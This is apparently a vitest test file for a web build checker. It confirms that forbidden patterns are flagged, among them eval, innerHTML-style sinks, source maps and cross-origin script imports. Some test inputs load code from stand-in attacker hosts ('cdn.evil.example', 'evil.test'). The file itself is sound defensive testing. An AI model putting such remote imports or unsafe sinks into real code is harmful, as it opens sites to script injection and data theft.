import { expect, test } from 'vitest'
import { forbiddenFinds, pageFaults } from './build-rules.ts'
import type { BuiltFiles } from './built-files.ts'

const build = (files: Record<string, string>): BuiltFiles =>
  new Map(Object.entries(files).map(([name, text]) => [name, Buffer.from(text)]))

const clean = {
  'index.html': '<script type="module" src="/assets/app.js"></script><link href="/assets/app.css">',
  'assets/app.js': 'const page = await import("./late.js"); setTimeout(() => page.show(), 5)',
  'assets/app.css': '@font-face { src: url(/assets/inter.woff2) }',
}

test('S20, S53, S54: nothing is wrong with a build that has nothing wrong', () => {
  expect(forbiddenFinds([], build(clean))).toEqual([])
  expect(pageFaults(build(clean))).toEqual([])
})

test.each([
  ['eval("1")', 'eval()'],
  ['new Function("return 1")', 'the Function constructor'],
  ['setTimeout("go()", 1)', 'code in a string'],
  ['node.innerHTML=text', 'makes HTML of strings'],
  ['node.insertAdjacentHTML("beforeend", text)', 'makes HTML of strings'],
  ['frame.srcdoc=text', 'makes HTML of strings'],
  ['document.write(text)', 'makes HTML of strings'],
])('S20: a script with %s is found', (script, what) => {
  const finds = forbiddenFinds([], build({ ...clean, 'assets/app.js': script }))
  expect(finds.join()).toContain(what)
})

test.each([
  ['import("https://cdn.evil.example/x.js")', 'an import from another origin'],
  ['import x from "//cdn.evil.example/x.js"', 'an import from another origin'],
  ['fetch("https://evil.test/x")', 'names evil.test'],
  ['//# sourceMappingURL=app.js.map', 'a source map'],
])('S53, S54: a script with %s is found', (script, what) => {
  const finds = forbiddenFinds([], build({ ...clean, 'assets/app.js': script }))
  expect(finds.join()).toContain(what)
})

test.each([
  'navigator.serviceWorker.register("/sw.js")',
  'indexedDB.open("cache")',
  'document.cookie="key=1"',
  'caches.open("v1")',
])('S02, S11: a script that could keep the key longer is found: %s', (script) => {
  expect(forbiddenFinds([], build({ ...clean, 'assets/app.js': script }))).not.toEqual([])
})

test.each(['assets/app.js.map', '.env', 'assets/app.test.js.txt', 'src/main.tsx', '_headers'])(
  'S53: %s does not belong into a build',
  (name) => {
    expect(forbiddenFinds([], build({ ...clean, [name]: '' })).join()).toContain(name)
  },
)

test.each([
  'src/sandbox/faults/deliver.ts',
  'src/sandbox/hostile/tasks.ts',
  'src/sandbox/control.ts',
  'src/api/errors.test.ts',
  'src/account/test-tasks.ts',
  'e2e/fixtures.ts',
])('S53: %s is for tests and may not be served', (name) => {
  const chunk = { file: 'assets/app.js', imports: [], modules: [{ name, length: 1, sinks: [] }] }
  expect(forbiddenFinds([chunk], build(clean)).join()).toContain(`${name} is for tests`)
})

test.each([
  ['<script>go()</script>', 'inline script'],
  ['<div onclick="go()">', 'inline code'],
  ['<style>p { color: red }</style>', 'inline code or style'],
  ['<script src="https://cdn.example/x.js"></script>', 'another origin'],
  ['<link href="//cdn.example/x.css">', 'another origin'],
])('S50, S54: a page with %s is found', (html, what) => {
  for (const name of ['index.html', 'player.html']) {
    expect(pageFaults(build({ ...clean, [name]: html })).join()).toContain(what)
  }
})

test('a look that all of a list would be styled anew for is found', () => {
  const css = '.group-last\\/head\\:pr-4:is(:where(.group\\/head):last-child *){}'
  expect(forbiddenFinds([], build({ ...clean, 'assets/app.css': css }))).toHaveLength(1)
})

test('S54: a style that loads from another origin is found', () => {
  const css = '@import url("https://fonts.example/inter.css")'
  expect(pageFaults(build({ ...clean, 'assets/app.css': css }))).toHaveLength(1)
})
